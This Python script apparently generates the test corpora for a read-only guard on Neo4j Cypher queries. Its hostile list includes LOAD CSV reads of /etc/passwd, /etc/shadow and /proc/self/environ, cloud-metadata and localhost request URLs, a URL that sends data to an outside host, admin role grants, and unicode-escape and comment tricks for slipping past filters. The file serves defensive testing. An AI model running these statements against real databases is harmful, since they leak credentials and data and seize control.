# ruff: noqa: E501  (a statement is a line)
"""Writes the two corpora of the read-only guard: statements it must refuse and statements it must let through.

Run it to regenerate `hostile_cypher.txt` and `legitimate_cypher.txt` next to it: one statement a line, a line break
inside a statement written as ⏎. The order is fixed and no chance is involved.
"""

from __future__ import annotations

import itertools
from pathlib import Path

SIZE = 500
HERE = Path(__file__).parent

WRITES = """
SET n.x = 1
SET n += {x: 1}
SET n = {}
SET n:Pwned
SET n:$('Pw' + 'ned')
SET n['x'] = 1
REMOVE n.name
REMOVE n:Concept
REMOVE n:$('Concept')
REMOVE n['name']
DELETE n
DETACH DELETE n
NODETACH DELETE n
CREATE (n)-[:PWNED]->(:Pwned)
CREATE (n)-[:$('PWNED')]->(:$('Pwned'))
CREATE p = (n)-[:PWNED {at: timestamp()}]->(:Pwned)
MERGE (n)-[:PWNED]->(m:Pwned)
MERGE (m:Pwned {id: 1}) ON CREATE SET m.x = 1 ON MATCH SET m.x = 2
FOREACH (i IN range(1, 3) | CREATE (:Pwned {i: i}))
FOREACH (x IN [n] | SET x.hacked = true)
FOREACH (x IN [n] | DETACH DELETE x)
FOREACH (a IN [1] | FOREACH (b IN [2] | MERGE (:Pwned {a: a, b: b})))
FOREACH (x IN [n] | REMOVE x.cui)
INSERT (:Pwned {x: 1})
""".strip().splitlines()

POSITIONS = """
MATCH (n:Concept) {w}
MATCH (n:Concept) WITH n LIMIT 1 {w} RETURN 1
OPTIONAL MATCH (n:Nothing) {w}
MATCH (n:Concept) CALL (n) {{ {w} }} RETURN count(*)
MATCH (n:Concept) CALL {{ WITH n {w} }} RETURN count(*)
MATCH (n:Concept) CALL (n) {{ CALL (n) {{ {w} }} }} RETURN count(*)
MATCH (n:Concept) CALL (n) {{ {w} }} IN TRANSACTIONS OF 10 ROWS
MATCH (n:Concept) CALL (n) {{ {w} }} IN 4 CONCURRENT TRANSACTIONS OF 10 ROWS ON ERROR CONTINUE
RETURN 1 AS x UNION MATCH (n:Image) {w} RETURN 2 AS x
MATCH (n:Concept) {w} RETURN 1 AS x UNION ALL RETURN 2 AS x
CALL () {{ RETURN 1 AS x UNION MATCH (n) {w} RETURN 2 AS x }} RETURN x
UNWIND [1, 2] AS i MATCH (n:Concept) {w}
MATCH (n) WHERE false {w}
MATCH (n) WITH n LIMIT 0 {w}
UNWIND [] AS n {w}
CALL db.labels() YIELD label MATCH (n:Concept) {w}
MATCH (n)/* read only */{w}//⏎
MATCH (n:Concept) // a comment⏎{w}
MATCH (n:Concept)\t\t{w};
MATCH (n:Concept) RETURN n; MATCH (n) {w}
EXPLAIN MATCH (n) {w}
PROFILE MATCH (n) {w}
CYPHER runtime=slotted MATCH (n) {w}
USE neo4j MATCH (n) {w}
""".strip().splitlines()

STANDALONE = """
CREATE (:Pwned)
CREATE (a:Pwned)-[:X]->(b:Pwned) RETURN a, b
create (:pwned)
cReAtE (n) rEtUrN n
MERGE (n:Pwned {id: 1}) RETURN n
MERGE (a:Image {id: 'I1'})-[:POSITIVE]->(b:Concept {cui: 'C0000001'})
INSERT (:Pwned)
FOREACH (i IN [1] | CREATE (:Pwned))
MATCH (a:Image), (b:Concept) CREATE (a)-[:POSITIVE]->(b)
MATCH ()-[r]->() DELETE r
MATCH ()-[r:NEGATIVE]->() SET r.runs = []
MATCH p = (:Image)-->(:Concept) DETACH DELETE p
MATCH (r:Run) SET r.status = 'undone'
MATCH (n) DETACH DELETE n
MATCH (i:Image) SET i.naf = 0, i.naf_rank = 1
MATCH (c:Concept {cui: $cui}) SET c.name = $name
UNWIND $rows AS row MERGE (c:Concept {cui: row.cui}) SET c += row
MATCH (a)-[r:isa]->(b) CREATE (b)-[:inverse_isa]->(a) DELETE r
WITH 1 AS x CREATE (:Pwned {x: x}) WITH x MATCH (n) RETURN n
MATCH (n:Concept) WHERE EXISTS { (n)-[:isa]->() } SET n.x = COUNT { (n)-->() }
""".strip().splitlines()

SCHEMA = """
CREATE INDEX FOR (n:Image) ON (n.path)
CREATE INDEX pwned IF NOT EXISTS FOR (n:Image) ON (n.path)
CREATE RANGE INDEX FOR ()-[r:POSITIVE]-() ON (r.runs)
CREATE TEXT INDEX FOR (n:Concept) ON (n.name)
CREATE POINT INDEX FOR (n:Concept) ON (n.place)
CREATE LOOKUP INDEX FOR (n) ON EACH labels(n)
CREATE FULLTEXT INDEX pwned FOR (n:Concept) ON EACH [n.name]
CREATE VECTOR INDEX pwned FOR (n:Image) ON n.embedding OPTIONS {indexConfig: {`vector.dimensions`: 3}}
CREATE CONSTRAINT FOR (n:Image) REQUIRE n.path IS UNIQUE
CREATE CONSTRAINT pwned FOR (n:Concept) REQUIRE n.name IS NOT NULL
CREATE CONSTRAINT FOR (n:Concept) REQUIRE (n.cui, n.name) IS NODE KEY
CREATE CONSTRAINT FOR (n:Concept) REQUIRE n.cui IS :: STRING
CREATE CONSTRAINT FOR ()-[r:isa]-() REQUIRE r.id IS UNIQUE
DROP INDEX concept_names
DROP INDEX concept_names IF EXISTS
DROP INDEX ON :Concept(name)
DROP CONSTRAINT concept_cui
DROP CONSTRAINT image_id IF EXISTS
DROP CONSTRAINT ON (n:Concept) ASSERT n.cui IS UNIQUE
CREATE OR REPLACE DATABASE neo4j
CREATE DATABASE pwned
CREATE DATABASE pwned IF NOT EXISTS WAIT
CREATE COMPOSITE DATABASE pwned
CREATE ALIAS pwned FOR DATABASE neo4j
CREATE ALIAS pwned FOR DATABASE neo4j AT 'neo4j://203.0.113.9:7687' USER u PASSWORD 'p'
DROP DATABASE neo4j
DROP DATABASE neo4j IF EXISTS DESTROY DATA
DROP ALIAS pwned FOR DATABASE
ALTER DATABASE neo4j SET ACCESS READ ONLY
ALTER DATABASE neo4j SET OPTION txLogEnrichment 'FULL'
ALTER ALIAS pwned SET DATABASE TARGET neo4j
STOP DATABASE neo4j
START DATABASE neo4j
CREATE USER pwned SET PASSWORD 'password1' CHANGE NOT REQUIRED
CREATE OR REPLACE USER neo4j SET PLAINTEXT PASSWORD 'password1'
CREATE USER pwned IF NOT EXISTS SET AUTH 'native' {SET PASSWORD 'password1'}
ALTER USER neo4j SET PASSWORD 'password1'
ALTER USER neo4j SET STATUS SUSPENDED
ALTER USER neo4j SET HOME DATABASE system
ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'password1'
RENAME USER neo4j TO pwned
DROP USER neo4j
DROP USER pwned IF EXISTS
CREATE ROLE pwned
CREATE ROLE pwned AS COPY OF admin
DROP ROLE reader
RENAME ROLE reader TO pwned
GRANT ROLE admin TO pwned
GRANT ALL ON DBMS TO pwned
GRANT MATCH {*} ON GRAPH * TO PUBLIC
GRANT LOAD ON ALL DATA TO PUBLIC
GRANT EXECUTE PROCEDURE * ON DBMS TO PUBLIC
DENY READ {*} ON GRAPH * TO PUBLIC
REVOKE ROLE admin FROM neo4j
REVOKE GRANT ACCESS ON DATABASE * FROM PUBLIC
ENABLE SERVER 'x' OPTIONS {modeConstraint: 'NONE'}
ALTER SERVER 'x' SET OPTIONS {modeConstraint: 'NONE'}
DROP SERVER 'x'
REALLOCATE DATABASES
DEALLOCATE DATABASES FROM SERVER 'x'
DRYRUN REALLOCATE DATABASES
""".strip().splitlines()

SHOWS = """
SHOW USERS
SHOW USERS WITH AUTH
SHOW CURRENT USER
SHOW DATABASES
SHOW DATABASE neo4j
SHOW DEFAULT DATABASE
SHOW HOME DATABASE
SHOW SETTINGS
SHOW SETTINGS YIELD name, value WHERE name CONTAINS 'auth' RETURN name, value
SHOW SETTING 'server.directories.import'
SHOW TRANSACTIONS
SHOW TRANSACTIONS YIELD currentQuery, parameters RETURN currentQuery
SHOW TRANSACTION 'neo4j-transaction-1'
SHOW PROCEDURES
SHOW PROCEDURES EXECUTABLE BY CURRENT USER YIELD name RETURN collect(name)
SHOW FUNCTIONS
SHOW USER DEFINED FUNCTIONS
SHOW INDEXES
SHOW FULLTEXT INDEXES YIELD *
SHOW INDEXES YIELD createStatement
SHOW CONSTRAINTS
SHOW UNIQUE CONSTRAINTS YIELD *
SHOW PRIVILEGES
SHOW PRIVILEGES AS COMMANDS
SHOW USER neo4j PRIVILEGES
SHOW ROLES
SHOW POPULATED ROLES WITH USERS
SHOW ALIASES FOR DATABASE
SHOW SERVERS
SHOW SUPPORTED PRIVILEGES
show settings
ShOw UsErS
/* */ SHOW SETTINGS
SHOW/**/SETTINGS
// x⏎SHOW TRANSACTIONS
TERMINATE TRANSACTION 'neo4j-transaction-1'
TERMINATE TRANSACTIONS ['a', 'b']
SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTIONS t YIELD message RETURN message
terminate transaction $id
UNWIND ['a'] AS id TERMINATE TRANSACTIONS id YIELD message RETURN message
MATCH (n) RETURN n UNION SHOW USERS
""".strip().splitlines()

URLS = """
file:///etc/passwd
file:///../../../../etc/passwd
file:/etc/passwd
file:////etc/passwd
file://localhost/etc/passwd
FILE:///etc/shadow
file:///conf/neo4j.conf
file:///proc/self/environ
file:///%2e%2e/%2e%2e/etc/passwd
http://127.0.0.1:7474/
http://localhost:7474/db/neo4j/tx/commit
http://[::1]:7474/
http://0.0.0.0/
http://169.254.169.254/latest/meta-data/
http://2130706433/
http://0x7f.1/
http://user:pass@127.0.0.1/
https://203.0.113.9/collect?x=1
ftp://127.0.0.1/x.csv
jar:file:///opt/neo4j/lib/neo4j.jar!/META-INF/MANIFEST.MF
jar:http://127.0.0.1/x.zip!/x.csv
s3://bucket/key
gs://bucket/key
azb://account/container/x
""".strip().splitlines()

LOADS = """
LOAD CSV FROM '{url}' AS line RETURN line
LOAD CSV WITH HEADERS FROM '{url}' AS line FIELDTERMINATOR ':' RETURN line LIMIT 1
MATCH (c:Concept) LOAD CSV FROM '{url}' + '?' + c.cui AS line RETURN line
RETURN [i IN [1] | COLLECT {{ LOAD CSV FROM '{url}' AS line RETURN line }}] AS stolen
""".strip().splitlines()

LOAD_TRICKS = """
load csv from 'file:///etc/passwd' as line return line
LOAD /* */ CSV FROM 'file:///etc/passwd' AS line RETURN line
LOAD⏎CSV⏎FROM 'file:///etc/passwd' AS line RETURN line
LOAD CSV FROM $url AS line RETURN line
WITH 'file:///etc/passwd' AS u LOAD CSV FROM u AS line RETURN line
WITH 1 AS as LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
WITH 'fi' + 'le:///etc/passwd' AS u CALL (u) { LOAD CSV FROM u AS line RETURN line } RETURN line
RETURN 1 AS line UNION LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
RETURN EXISTS { LOAD CSV FROM 'http://127.0.0.1/' AS line RETURN line } AS x
RETURN COUNT { LOAD CSV FROM 'http://127.0.0.1/' AS line RETURN line } AS x
RETURN COLLECT { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } AS x
MATCH (n:Concept) WHERE EXISTS { LOAD CSV FROM 'http://127.0.0.1/' AS line RETURN line } RETURN n
MATCH (n:Concept) RETURN CASE WHEN true THEN COUNT { LOAD CSV FROM 'file:///x' AS line RETURN line } END AS x
RETURN reduce(s = 0, i IN [1] | s + COUNT { LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l }) AS x
RETURN all(i IN [1] WHERE EXISTS { LOAD CSV FROM 'http://127.0.0.1/' AS l RETURN l }) AS x
MATCH (n:Concept) RETURN n ORDER BY COUNT { LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l }
RETURN {a: COLLECT { WITH 1 AS as LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l }} AS x
MATCH (n:Concept) RETURN n {.cui, x: COLLECT { LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l }} AS x
LOAD CSV FROM 'file:///etc/passwd' AS line RETURN file() AS f, linenumber() AS l
LOAD CSV FROM 'file:///etc/passwd' AS line CREATE (:Pwned {line: line})
MATCH (n) CALL (n) { LOAD CSV FROM 'http://127.0.0.1/' AS l RETURN l } IN TRANSACTIONS RETURN l
USING PERIODIC COMMIT 500 LOAD CSV FROM 'file:///etc/passwd' AS line CREATE (:Pwned)
""".strip().splitlines()

PROCEDURES = """
db.createLabel('Pwned')
db.createRelationshipType('PWNED')
db.createProperty('pwned')
db.clearQueryCaches()
db.prepareForReplanning(1)
db.awaitIndex('concept_names', 300)
db.awaitIndexes(300)
db.resampleIndex('concept_names')
db.resampleOutdatedIndexes()
db.stats.collect('QUERIES', {durationSeconds: 60})
db.stats.retrieve('QUERIES')
db.stats.retrieveAllAnonymized('t')
db.stats.clear('QUERIES')
db.stats.stop('QUERIES')
db.stats.status()
db.index.vector.createNodeIndex('pwned', 'Image', 'embedding', 3, 'cosine')
db.index.fulltext.createNodeIndex('pwned', ['Concept'], ['name'])
db.index.fulltext.drop('concept_names')
db.index.fulltext.awaitEventuallyConsistentIndexRefresh()
db.create.setVectorProperty($n, 'x', [1.0])
db.create.setNodeVectorProperty($n, 'x', [1.0])
db.create.setRelationshipVectorProperty($r, 'x', [1.0])
db.checkpoint()
dbms.queryJmx('*:*')
dbms.listConfig('')
dbms.listConfig('auth')
dbms.setConfigValue('db.logs.query.enabled', 'OFF')
dbms.killConnection('bolt-1')
dbms.killConnections(['bolt-1'])
dbms.killQuery('query-1')
dbms.killTransaction('neo4j-transaction-1')
dbms.listConnections()
dbms.listQueries()
dbms.listTransactions()
dbms.listActiveLocks('query-1')
dbms.listCapabilities()
dbms.info()
dbms.showCurrentUser()
dbms.upgrade()
dbms.upgradeStatus()
dbms.routing.getRoutingTable({})
dbms.cluster.routing.getRoutingTable({})
dbms.cluster.readReplicaToggle('neo4j', true)
dbms.quarantineDatabase('neo4j', true)
dbms.setDatabaseAllocator('x')
dbms.scheduler.profile('ALL', '1s', 'x')
dbms.security.createUser('pwned', 'password1')
dbms.security.clearAuthCache()
dbms.changePassword('pwned')
dbms.functions()
tx.setMetaData({user: 'nobody'})
tx.getMetaData()
jwt.security.requestAccess('x')
apoc.load.json('http://127.0.0.1/')
apoc.load.jdbc('jdbc:h2:mem:', 'x')
apoc.load.xml('file:///etc/passwd')
apoc.export.csv.all('x.csv', {})
apoc.export.cypher.all(null, {stream: true})
apoc.import.json('x.json')
apoc.cypher.doIt('CREATE (n) RETURN n', {})
apoc.cypher.runWrite('CREATE (n)', {})
apoc.cypher.runFile('file:///x.cypher')
apoc.cypher.runSchema('CREATE INDEX FOR (n:X) ON n.y', {})
apoc.cypher.run('RETURN 1', {})
apoc.periodic.commit('CREATE (n) RETURN 1', {})
apoc.periodic.iterate('RETURN 1', 'CREATE (n)', {})
apoc.periodic.repeat('x', 'CREATE (n)', 1)
apoc.periodic.submit('x', 'CREATE (n)')
apoc.refactor.rename.label('Concept', 'Pwned')
apoc.trigger.install('neo4j', 'x', 'CREATE (n)', {})
apoc.custom.declareProcedure('x() :: (y :: INT)', 'RETURN 1', 'READ')
apoc.systemdb.execute('SHOW USERS')
apoc.config.list()
apoc.log.info('x')
apoc.util.sleep(100000)
apoc.warmup.run()
apoc.schema.assert({}, {})
apoc.nodes.delete([], 1)
apoc.merge.node(['Pwned'], {x: 1})
apoc.create.node(['Pwned'], {x: 1})
gds.graph.project('x', '*', '*')
gds.pageRank.write('x', {})
genai.vector.encodeBatch(['x'], 'OpenAI', {token: 'x'})
n10s.rdf.import.fetch('http://127.0.0.1/', 'Turtle')
""".strip().splitlines()

CALLS = """
CALL {p}
CALL {p} YIELD * RETURN 1
MATCH (c:Concept) CALL {p} RETURN c
RETURN EXISTS {{ CALL {p} }} AS x
""".strip().splitlines()

CALL_TRICKS = """
CALL db.clearQueryCaches
call DBMS.queryJmx('*:*')
CALL `dbms`.`queryJmx`('*:*')
CALL `dbms`.queryJmx('*:*')
CALL dbms . queryJmx ('*:*')
CALL dbms/* */./* */queryJmx('*:*')
CALL dbms.⏎queryJmx('*:*') YIELD name RETURN name
CALL `dbms.queryJmx`('*:*')
CALL db.labels() YIELD label CALL db.clearQueryCaches() YIELD value RETURN label
CALL (*) { CALL db.clearQueryCaches() YIELD value RETURN value } RETURN value
RETURN [i IN [1] | COUNT { CALL dbms.listConnections() YIELD connectionId RETURN connectionId }] AS x
RETURN [i IN [1] WHERE EXISTS { CALL db.clearQueryCaches() YIELD value RETURN value } | i] AS x
RETURN reduce(s = 0, i IN [1] | s + COUNT { CALL dbms.queryJmx('*:*') YIELD name RETURN name }) AS x
RETURN COLLECT { CALL dbms.listConfig('') YIELD value RETURN value } AS x
RETURN genai.vector.encode('text', 'OpenAI', {token: 'x'}) AS x
RETURN apoc.cypher.runFirstColumnSingle('RETURN 1', {}) AS x
RETURN apoc.static.get('password') AS x
RETURN apoc.util.md5(['x']) AS x
MATCH (c:Concept) WHERE apoc.cypher.runFirstColumnMany('MATCH (n) RETURN n', {}) = [] RETURN c
RETURN `genai`.`vector`.`encode`('x', 'OpenAI', {}) AS x
RETURN `apoc.static.get`('x') AS x
USE graph.byName('neo4j') MATCH (n) RETURN n
USE graph.byElementId('1') MATCH (n) RETURN n
RETURN graph.byName('neo4j') AS x
OPTIONAL CALL db.clearQueryCaches() YIELD value RETURN value
OPTIONAL CALL tx.setMetaData({a: 1}) RETURN 1
""".strip().splitlines()

PREFIXES = """
EXPLAIN RETURN 1
PROFILE RETURN 1
explain RETURN 1
pRoFiLe MATCH (n) RETURN n
EXPLAIN EXPLAIN RETURN 1
EXPLAIN CYPHER 5 RETURN 1
CYPHER 5 RETURN 1
CYPHER 25 RETURN 1
CYPHER planner=dp RETURN 1
CYPHER runtime=pipelined MATCH (n) RETURN n
CYPHER replan=force MATCH (n) RETURN n
CYPHER debug=tostring MATCH (n) RETURN n
CYPHER expressionEngine=interpreted RETURN 1
CYPHER connectComponentsPlanner=idp RETURN 1
CYPHER PROFILE CREATE (n)
cypher 5 CREATE (n)
/* x */ EXPLAIN RETURN 1
// x⏎PROFILE RETURN 1
/**/CYPHER/**/5/**/CREATE (n)
;CREATE (n)
; ; CREATE (n)
RETURN 1; CREATE (n)
RETURN 1;; CREATE (n)
RETURN 1 ; RETURN 2
RETURN ';' AS x; MATCH (n) DETACH DELETE n
RETURN 1 AS x /* ; */ ; DROP INDEX concept_names
MATCH (n) RETURN n;//⏎CREATE (n)
:param x => 1
:use system
:source x.cypher
:auto MATCH (n) DELETE n
BEGIN
COMMIT
ROLLBACK
USE system SHOW USERS
USE system MATCH (n) RETURN n
USE neo4j RETURN 1
USE `neo4j` MATCH (n) RETURN n
use neo4j match (n) return n
CALL { USE neo4j MATCH (n) RETURN n } RETURN n
CALL () { USE system MATCH (n) RETURN n } RETURN n
RETURN 1 AS x UNION USE system RETURN 2 AS x
CALL { USE other.graph MATCH (n) RETURN n } RETURN n
MATCH (n) CALL (n) { MATCH (n)-->(m) RETURN m } IN TRANSACTIONS RETURN m
UNWIND range(1, 9) AS i CALL (i) { RETURN i AS j } IN 3 CONCURRENT TRANSACTIONS RETURN j
CALL { MATCH (n) DETACH DELETE n } IN TRANSACTIONS OF 1 ROW ON ERROR CONTINUE REPORT STATUS AS s RETURN s
START n=node(*) RETURN n
FINISH
{ CREATE (n) }
(CREATE (n))
""".strip().splitlines()

ESCAPES = r"""
\u0043REATE (n)
C\u0052EATE (n)
\u0043\u0052\u0045\u0041\u0054\u0045 (:Pwned)
\uuuu0043REATE (n)
MATCH (n) \u0044ELETE n
MATCH (n) DETACH\u0020DELETE n
MATCH (n) \u0053ET n.x = 1
MATCH (n) WHERE false \u0044ELETE n
MATCH (n)\u000aDELETE n
MATCH (n) //\u000aDELETE n
MATCH (n) //\u000dDELETE n
MATCH (n) /* \u002a\u002f DELETE n //
MATCH (n) WHERE n.name = '\u0027 DELETE n //'
MATCH (n) WHERE n.name = "\u0022 DETACH DELETE n //"
MATCH (n) WHERE n.name = '\\u0027 DELETE n //'
MATCH (n:`Concept\u0060) DETACH DELETE n //`) RETURN n
MATCH ()-[r:`isa\u0060]->() DELETE r //`]->() RETURN 1
MATCH (n:`x\u0060\u0029 SET n.x = 1 //`) RETURN n
MATCH (n) RETURN n\u003b CREATE (m)
L\u004fAD CSV FROM 'file:///etc/passwd' AS l RETURN l
LOAD \u0043SV FROM 'file:///etc/passwd' AS l RETURN l
RETURN [i IN [1] | COLLECT { \u004cOAD CSV FROM 'file:///x' AS l RETURN l }] AS x
\u0045XPLAIN RETURN 1
\u0050ROFILE CREATE (n)
\u0053HOW USERS
\u0055SE system SHOW USERS
CALL db\u002eclearQueryCaches()
CALL dbms.query\u004amx('*:*')
RETURN [i IN [1] | COUNT { CALL dbms\u002elistConnections() YIELD connectionId RETURN connectionId }] AS x
RETURN 1 \u002f\u002f⏎ CREATE (n)
CALL apoc.cypher\u002edoIt('CREATE (n)', {})
MATCH (n) RETURN '\u00e9' AS x, \u0027a\u0027 AS y
""".strip("\n").splitlines()

ODD_CHARACTERS = [
    "MATCH (n) \u017fET n.x = 1",  # long s, upper-cased to S
    "MATCH (n) \uff33\uff25\uff34 n.x = 1",  # full-width letters
    "MATCH (n)\u00a0DELETE n",  # no-break space
    "MATCH (n) \u2003DETACH\u3000DELETE n",
    "\ufeffCREATE (n)",
    "\u001cCREATE (n)",
    "MATCH (n) \u200bDELETE n",
    "MATCH (n) //\rDELETE n",
    "MATCH (n) //\x0bx\rDELETE n",
    "RETURN 1 //\u2028\rLOAD CSV FROM 'file:///x' AS l RETURN l",
    "MATCH (n)\x00DELETE n",
]

CONCEPTS = ("C0004144", "C0032285", "C0577559", "C0746459", "C1253943", "C0024115")
WORDS = ("lung", "effusion", "mediastinum", "fracture", "catheter", "nodule")

READS = r"""
MATCH (c:Concept {{cui: '{cui}'}}) RETURN c
MATCH (c:Concept {{cui: '{cui}'}})<-[r:POSITIVE]-(i:Image) RETURN i.id, i.naf ORDER BY i.naf DESC LIMIT {n}
MATCH (c:Concept {{cui: '{cui}'}})<-[r:NEGATIVE|UNCERTAIN]-(i:Image) RETURN type(r) AS stance, count(*) AS images
MATCH (c:Concept {{cui: '{cui}'}})<-[r]-(i:Image) WITH type(r) AS stance, collect(i.id) AS ids RETURN stance, size(ids), ids[..{n}]
MATCH (c:Concept {{cui: '{cui}'}})-[r]-(d:Concept) RETURN type(r), d.name ORDER BY d.name SKIP {n} LIMIT 10
MATCH p = (c:Concept {{cui: '{cui}'}})-[:isa*1..2]->(d:Concept) RETURN p LIMIT {n}
MATCH p = (c:Concept {{cui: '{cui}'}})-[:inverse_isa]->{{1,2}}(d) RETURN length(p), d.name LIMIT {n}
MATCH p = (c:Concept {{cui: '{cui}'}}) ((a)-[:isa]->(b)){{1,2}} (d:Concept) RETURN [x IN b | x.name] AS names LIMIT {n}
MATCH p = shortestPath((a:Concept {{cui: '{cui}'}})-[*..4]-(b:Concept {{cui: 'C0024109'}})) RETURN p
MATCH p = SHORTEST 1 (a:Concept {{cui: '{cui}'}})-[:isa|inverse_isa]-{{1,3}}(b:Concept {{cui: 'C0577559'}}) RETURN p
MATCH p = ALL SHORTEST (a:Concept {{cui: '{cui}'}})--{{1,2}}(b:Concept {{cui: 'C0024109'}}) RETURN count(p)
OPTIONAL MATCH (c:Concept {{cui: '{cui}'}})-[:finding_site_of]->(s) RETURN c.cui, coalesce(s.name, 'none') AS site
MATCH (c:Concept {{cui: '{cui}'}}) OPTIONAL MATCH (c)-[:ddx]->(d) RETURN c.name, collect(DISTINCT d.name) AS differentials
MATCH (c:Concept) WHERE c.name CONTAINS '{word}' RETURN c.cui, c.name LIMIT {n}
MATCH (c:Concept) WHERE toLower(c.name) STARTS WITH '{word}' OR c.name ENDS WITH '{word}' RETURN count(c)
MATCH (c:Concept) WHERE c.name =~ '(?i).*{word}.*' RETURN c.name ORDER BY size(c.name) LIMIT {n}
CALL db.index.fulltext.queryNodes('concept_names', '{word}') YIELD node, score RETURN node.cui, node.name, score LIMIT {n}
CALL db.index.fulltext.queryNodes('concept_names', '{word}~') YIELD node AS c MATCH (c)<-[:POSITIVE]-(i) RETURN c.name, count(i)
CALL db.index.fulltext.queryNodes('concept_names', '{word}', {{limit: {n}}}) YIELD node RETURN node
MATCH (c:Concept {{cui: '{cui}'}}) WHERE EXISTS {{ (c)<-[:POSITIVE]-(:Image) }} RETURN c
MATCH (c:Concept {{cui: '{cui}'}}) WHERE EXISTS {{ MATCH (c)-[:isa]->(d) WHERE d.name CONTAINS '{word}' }} RETURN c.name
MATCH (c:Concept {{cui: '{cui}'}}) RETURN COUNT {{ (c)<-[:POSITIVE]-() }} AS positive, COUNT {{ (c)<-[:NEGATIVE]-() }} AS negative
MATCH (c:Concept {{cui: '{cui}'}}) RETURN COLLECT {{ MATCH (c)<-[:POSITIVE]-(i:Image) RETURN i.id ORDER BY i.id LIMIT {n} }} AS ids
MATCH (c:Concept {{cui: '{cui}'}}) CALL (c) {{ MATCH (c)<-[r]-(i:Image) RETURN type(r) AS stance, count(i) AS n }} RETURN stance, n
MATCH (c:Concept {{cui: '{cui}'}}) CALL {{ WITH c MATCH (c)--(d:Concept) RETURN count(DISTINCT d) AS degree }} RETURN degree
MATCH (c:Concept {{cui: '{cui}'}}) CALL (*) {{ MATCH (c)<-[:POSITIVE]-(i) RETURN i ORDER BY i.naf DESC LIMIT {n} }} RETURN i.id
MATCH (i:Image)-[:POSITIVE]->(c:Concept {{cui: '{cui}'}}) MATCH (i)-[:POSITIVE]->(d) WHERE d <> c RETURN d.name, count(*) AS n ORDER BY n DESC LIMIT {n}
MATCH (i:Image)-[:POSITIVE]->(:Concept {{cui: '{cui}'}}) WHERE NOT (i)-[:NEGATIVE]->(:Concept) RETURN i.id LIMIT {n}
MATCH (i:Image)-[:POSITIVE]->(c:Concept {{cui: '{cui}'}}) RETURN avg(i.naf), min(i.naf), max(i.naf), stdev(i.naf), percentileCont(i.naf, 0.{n})
MATCH (c:Concept {{cui: '{cui}'}})<-[r:POSITIVE]-(:Image) UNWIND r.runs AS run RETURN run, count(*) AS edges
UNWIND ['{cui}', 'C0024109'] AS cui MATCH (c:Concept {{cui: cui}}) RETURN cui, c.name
UNWIND $cuis AS cui MATCH (c:Concept) WHERE c.cui = cui OR c.cui = '{cui}' RETURN c.name
WITH '{cui}' AS cui MATCH (c:Concept {{cui: cui}}) RETURN properties(c), keys(c), labels(c)
MATCH (c:Concept {{cui: '{cui}'}}) RETURN c {{.cui, .name, images: size([(c)<-[:POSITIVE]-(i) | i.id])}} AS concept
MATCH (c:Concept {{cui: '{cui}'}}) RETURN [(c)-[r:isa]->(d) WHERE d.name IS NOT NULL | d.name][..{n}] AS names
MATCH (c:Concept {{cui: '{cui}'}})-[r]->(d) RETURN startNode(r).cui, type(r), endNode(r).cui, elementId(r) LIMIT {n}
MATCH (c:Concept {{cui: '{cui}'}}) RETURN c.name AS name UNION MATCH (c:Concept) WHERE c.name CONTAINS '{word}' RETURN c.name AS name
MATCH (c:Concept {{cui: '{cui}'}}) RETURN 'a' AS k, c.cui AS v UNION ALL RETURN 'b' AS k, '{word}' AS v
// images of a concept⏎MATCH (c:Concept {{cui: '{cui}'}})<-[:POSITIVE]-(i:Image) /* best first */ RETURN i ORDER BY i.naf_rank LIMIT {n};
MATCH (c:Concept) WHERE c.name CONTAINS 'CREATE' OR c.name CONTAINS 'DELETE {word}' RETURN c
MATCH (c:Concept {{cui: '{cui}'}}) WHERE c.name <> "x'; MATCH (n) DETACH DELETE n; //" RETURN c.name
MATCH (c:Concept {{cui: '{cui}'}}) RETURN 'LOAD CSV FROM file:///etc/passwd' AS text, c.cui // SET c.x = 1
MATCH (c:Concept {{cui: '{cui}'}}) RETURN c.create AS a, c.`delete` AS b, c.set AS d, c.merge AS e, c.remove
MATCH (`set`:Concept {{cui: '{cui}'}}) RETURN `set`.name AS `DELETE`
MATCH (set:Concept {{cui: '{cui}'}}) WITH collect(set) AS merge RETURN size(merge)
MATCH (a:Concept {{cui: '{cui}'}})-[r:`co-occurs_with`]->(b) RETURN b.name, r.runs
MATCH (a:Concept {{cui: '{cui}'}})-[r:isa|SET|DELETE]->(b) RETURN count(b)
MATCH (a:Concept {{cui: '{cui}'}})-[r]->(b) WHERE type(r) IN ['isa', 'CREATE', 'ddx'] RETURN DISTINCT b.cui LIMIT {n}
MATCH (c:!Image&!Run {{cui: '{cui}'}}) RETURN c
MATCH (c:Concept|Entity) WHERE c.cui = '{cui}' AND c IS :: NODE RETURN valueType(c.name)
MATCH (c:Concept WHERE c.cui = '{cui}')-[r:!isa]-(d:Concept WHERE d.name <> c.name) RETURN d.name LIMIT {n}
MATCH (c:$('Concept') {{cui: '{cui}'}})-[r:$any(['isa', 'ddx'])]->(d) RETURN d.name LIMIT {n}
WITH {{load: 1, set: 2, `create`: {n}}} AS m RETURN m.load + m.set + m.create AS total
MATCH (c:Concept {{cui: $cui}}) RETURN c.name AS name, $set AS given, {n} AS n
MATCH (load:Image) WITH load ORDER BY load.naf DESC LIMIT {n} RETURN load.id, load.naf_kept
MATCH (i:Image) WHERE i.naf > {n} AND i.naf_kept RETURN count(i)
MATCH (i:Image) WHERE i.naf_rank <= {n} RETURN i.id, round(i.naf, 3) AS naf ORDER BY i.naf_rank
MATCH (i:Image) WITH i.subject_id AS subject, count(*) AS images WHERE images > {n} RETURN count(subject)
MATCH (i:Image)-[r]->(c:Concept) WITH i, c, collect(DISTINCT type(r)) AS stances WHERE size(stances) > 1 RETURN i.id, c.name, stances LIMIT {n}
MATCH (i:Image) WITH i ORDER BY i.naf DESC LIMIT {n} MATCH (i)-[r]->(c:Concept) RETURN i, r, c
MATCH (i:Image)-->(c:Concept) WITH i, count(c) AS degree RETURN degree, count(*) AS images ORDER BY degree LIMIT {n}
MATCH (i:Image) RETURN i.dataset, CASE WHEN i.naf > {n}0 THEN 'high' WHEN i.naf > 10 THEN 'middle' ELSE 'low' END AS band, count(*) AS n
MATCH (r:Run) RETURN r.id, r.started, duration.between(r.started, r.finished) AS took, date(r.started).year + {n} AS y
